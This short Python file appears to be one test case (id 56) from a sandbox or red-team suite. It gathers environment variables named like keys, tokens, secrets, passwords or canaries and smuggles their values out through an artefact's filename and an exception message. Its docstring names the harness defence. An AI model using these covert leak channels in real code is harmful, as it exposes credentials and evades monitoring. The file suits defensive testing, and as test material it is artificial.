"""Carries a secret out in an exception and in the name of an artefact.

ids: 56
effect: leak
defence: There is no secret to carry; errors have a length limit, and artefacts have no names.
"""

import os


def loot():
    wanted = ("KEY", "TOKEN", "SECRET", "PASS", "CANARY")
    return "-".join(v for k, v in os.environ.items() if any(word in k for word in wanted))


def attack(world):
    with open(f"model-{loot()[:99]}.bin", "w"):
        pass


def twist(result, world):
    raise ValueError(loot() * 3)
